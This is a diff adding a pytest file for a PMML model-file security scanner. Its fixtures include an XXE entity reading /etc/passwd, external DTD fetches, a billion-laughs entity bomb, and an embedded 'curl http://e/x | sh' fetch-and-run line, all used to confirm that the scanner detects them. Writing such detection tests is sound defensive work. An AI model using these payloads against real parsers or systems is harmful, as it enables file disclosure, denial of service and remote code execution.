@@ -1,0 +1,106 @@
+from __future__ import annotations
+
+import time
+from pathlib import Path
+
+from _dataformats_util import assert_clean, rules_of, scan
+
+from modelaudit.findings import IssueSeverity
+from modelaudit.scanners import pmml_scanner as ps
+
+PMML = """<?xml version="1.0" encoding="UTF-8"?>
+<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4">
+  <Header copyright="Copyright (c) 2024 Example" description="Iris tree">
+    <Application name="SkLearn2PMML package" version="0.104.0"/>
+  </Header>
+  <DataDictionary>
+    <DataField name="petal_length" optype="continuous" dataType="double"/>
+    <DataField name="species" optype="categorical" dataType="string">
+      <Value value="setosa"/><Value value="versicolor"/>
+    </DataField>
+  </DataDictionary>
+  <TreeModel modelName="IrisTree" functionName="classification">
+    <Extension name="X-Note" value="built by sklearn2pmml"/>
+    <MiningSchema>
+      <MiningField name="species" usageType="target"/>
+      <MiningField name="petal_length"/>
+    </MiningSchema>
+    <Node score="setosa">
+      <True/>
+      <Node score="versicolor"><SimplePredicate field="petal_length" operator="greaterThan"
+        value="2.45"/></Node>
+    </Node>
+  </TreeModel>
+</PMML>
+"""
+
+
+def test_legitimate_pmml_is_clean(tmp_path: Path) -> None:
+    path = tmp_path / "iris.pmml"
+    path.write_text(PMML)
+    result = scan(path)
+    assert result.scanner_name == "pmml"
+    assert_clean(result)
+    assert result.metadata["model_names"] == ["IrisTree"]
+    assert result.metadata["copyright"].startswith("Copyright")
+
+
+def test_external_entity_is_critical(tmp_path: Path) -> None:
+    doc = PMML.replace(
+        "<PMML xmlns",
+        '<!DOCTYPE PMML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<PMML xmlns',
+    ).replace('value="built by sklearn2pmml"', 'value="&xxe;"')
+    path = tmp_path / "xxe.pmml"
+    path.write_text(doc)
+    result = scan(path)
+    assert ps.XXE in rules_of(result, IssueSeverity.CRITICAL)
+
+
+def test_external_dtd_and_parameter_entity(tmp_path: Path) -> None:
+    path = tmp_path / "dtd.pmml"
+    path.write_text('<?xml version="1.0"?><!DOCTYPE PMML SYSTEM "http://127.0.0.1:9/x.dtd"><PMML/>')
+    assert ps.XXE in rules_of(scan(path), IssueSeverity.CRITICAL)
+    path.write_text(
+        '<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY % p SYSTEM "http://127.0.0.1:9/e">%p;]>'
+        "<PMML/>"
+    )
+    assert ps.XXE in rules_of(scan(path), IssueSeverity.CRITICAL)
+
+
+def test_billion_laughs_is_critical_and_fast(tmp_path: Path) -> None:
+    ents = ['<!ENTITY lol0 "lol">']
+    ents += [f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)]
+    doc = f'<?xml version="1.0"?><!DOCTYPE PMML [{"".join(ents)}]><PMML><Header>&lol9;</Header></PMML>'
+    path = tmp_path / "bomb.xml.pmml"
+    path.write_text(doc)
+    start = time.monotonic()
+    result = scan(path)
+    assert time.monotonic() - start < 30
+    assert ps.ENTITY_BOMB in rules_of(result, IssueSeverity.CRITICAL)
+
+
+def test_internal_dtd_is_warning(tmp_path: Path) -> None:
+    path = tmp_path / "dtd.pmml"
+    path.write_text('<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY a "b">]><PMML>&a;</PMML>')
+    result = scan(path)
+    assert ps.DTD in rules_of(result, IssueSeverity.WARNING)
+    assert not rules_of(result, IssueSeverity.CRITICAL)
+
+
+def test_extension_with_code(tmp_path: Path) -> None:
+    doc = PMML.replace(
+        '<Extension name="X-Note" value="built by sklearn2pmml"/>',
+        '<Extension name="X-Script"><Code>import os; os.system("curl http://e/x | sh")</Code>'
+        "</Extension>",
+    )
+    path = tmp_path / "code.pmml"
+    path.write_text(doc)
+    assert ps.EXTENSION_CODE in rules_of(scan(path), IssueSeverity.WARNING)
+
+
+def test_renamed_pmml_routes_by_content(tmp_path: Path) -> None:
+    path = tmp_path / "model.bin"
+    path.write_text(PMML)
+    result = scan(path)
+    assert result.scanner_name == "pmml"
+    assert_clean(result)
